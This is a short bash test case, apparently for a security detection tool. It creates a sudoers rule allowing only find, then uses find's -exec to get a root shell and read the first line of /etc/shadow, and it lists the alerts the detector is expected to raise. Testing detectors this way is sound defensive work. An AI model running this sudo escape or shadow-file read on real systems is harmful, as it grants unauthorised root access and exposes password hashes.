#!/usr/bin/env bash
# tactic: privilege-escalation
# technique: T1548.003 Abuse Elevation Control Mechanism: Sudo and Sudo Caching
# behaviour: a user allowed to run only find with sudo escapes to a root shell through -exec
# as: user
# setup: echo "$SNTL_USER ALL=(root) NOPASSWD: /usr/bin/find" > "/etc/sudoers.d/sntl-ev-$SNTL_ID" && chmod 440 "/etc/sudoers.d/sntl-ev-$SNTL_ID"
# teardown: rm -f "/etc/sudoers.d/sntl-ev-$SNTL_ID"
# expect: unusual_switch_user, unusual_child
set -u
sudo -n /usr/bin/find /etc -maxdepth 0 -exec /bin/sh -c 'id; head -1 /etc/shadow' \;
